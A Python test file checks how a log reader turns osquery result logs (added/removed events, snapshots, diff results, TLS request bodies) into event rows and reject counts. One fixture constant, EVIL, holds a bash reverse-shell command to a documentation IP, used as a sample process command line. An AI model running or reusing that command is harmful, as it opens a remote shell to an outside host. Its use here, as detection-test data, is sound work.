"""osquery's results: a row an event, in whichever format they are logged."""

from __future__ import annotations

import json
from typing import Any

from .independent import jq

EVIL = "bash -i >& /dev/tcp/192.0.2.1/1"
QUERY = {"name": "pack_x_processes", "hostIdentifier": "web1", "unixTime": 1412123850, "epoch": 0, "counter": 1}
LINES: list[dict[str, Any]] = [
    {**QUERY, "columns": {"pid": "1", "cmdline": EVIL, "path": "/bin/bash"}, "action": "added"},
    {**QUERY, "columns": {"name": "evil x", "path": "/x", "empty": ""}, "action": "removed"},
    {**QUERY, "snapshot": [{"command": "a"}, {"command": "b"}], "action": "snapshot"},
    {**QUERY, "diffResults": {"added": [{"path": "c"}], "removed": [{"path": "d"}]}, "decorations": {"hostname": "db"}},
    {**QUERY, "diffResults": {"added": [{"remote_address": "192.0.2.5", "remote_port": "443"}], "removed": ""}},
]
ROWS = "(.columns | objects), (.snapshot | arrays | .[]), (.diffResults | objects | .added, .removed | arrays | .[])"


def test_every_row_is_an_event_as_jq_counts_them(read) -> None:
    data = "".join(f"{json.dumps(line)}\n" for line in LINES).encode()
    table, rejects = read("osqueryd.results.log", data)
    events = table.to_pylist()
    assert [event["text"] for event in events] == [
        EVIL,
        'osquery pack_x_processes name="evil x" path=/x',
        "a",
        "b",
        "osquery pack_x_processes path=c",
        "osquery pack_x_processes path=d",
        "osquery pack_x_processes remote_address=192.0.2.5 remote_port=443",
    ]
    assert len(jq(data, ROWS)) == len(events) and rejects.total == 0
    assert {event["time"] for event in events} == {"2014-10-01T00:37:30Z"}
    assert [event["host"] for event in events] == ["web1"] * 4 + ["db"] * 2 + ["web1"]
    assert (events[-1]["dst_ip"], events[-1]["dst_port"]) == ("192.0.2.5", 443)


def test_what_is_sent_by_tls_is_read_too(read) -> None:
    data = json.dumps({"node_key": "k", "log_type": "result", "data": LINES}, indent=1).encode()
    table, rejects = read("request.json", data)
    assert (table.num_rows, rejects.total) == (7, 0)


def test_what_holds_no_rows_is_counted(read) -> None:
    lines = [*LINES[:1], {**QUERY, "snapshot": []}, {"name": "x"}]
    table, rejects = read("a.log", "".join(f"{json.dumps(line)}\n" for line in lines).encode(), format="osquery")
    assert table.num_rows == 1
    assert rejects.summary() == {"a result without rows": 1, "not a result of osquery": 1}


def test_what_has_a_label_is_a_table(read) -> None:
    table, _ = read("a.jsonl", json.dumps({**LINES[0], "text": "x", "label": "y"}).encode())
    assert table.select(["text", "label"]).to_pylist() == [{"text": "x", "label": "y"}]
